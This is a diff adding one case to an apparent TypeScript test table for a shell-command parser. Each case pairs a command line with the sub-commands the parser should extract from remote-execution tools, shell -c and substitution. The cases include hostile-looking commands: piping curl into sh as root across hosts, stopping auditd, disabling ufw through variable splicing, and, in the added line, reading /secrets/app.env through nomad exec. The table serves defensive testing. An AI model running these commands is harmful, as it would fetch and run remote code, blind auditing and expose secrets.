@@ -146,6 +146,7 @@ const CASES: Array<[string, string[]]> = [
   ["pdsh -w web[01-20] -l root 'curl -s x | sh'", ['pdsh -w web[01-20] -l root curl -s x | sh', 'remote:curl -s x', 'remote:sh']],
   ["clush -b -w node[1-9] uptime", ['clush -b -w node[1-9] uptime', 'remote:uptime']],
   ["salt '*' cmd.run 'systemctl stop auditd'", ['salt * cmd.run systemctl stop auditd', 'remote:systemctl stop auditd']],
+  ["nomad alloc exec -task web -job web-frontend sh -c 'cat /secrets/app.env'", ['nomad alloc exec -task web -job web-frontend sh -c cat /secrets/app.env', 'remote:sh -c cat /secrets/app.env', 'shell-c:cat /secrets/app.env']],
   // a lowercase variable the line never set, spliced between letters, is empty; one it set, or at a word's edge, is not
   ['ufw --force dis${x}able', ['ufw --force disable']],
   ['for x in $(cat hosts); do ssh dis${x}able; done', ['substitution:cat hosts', 'ssh dis${x}able']],
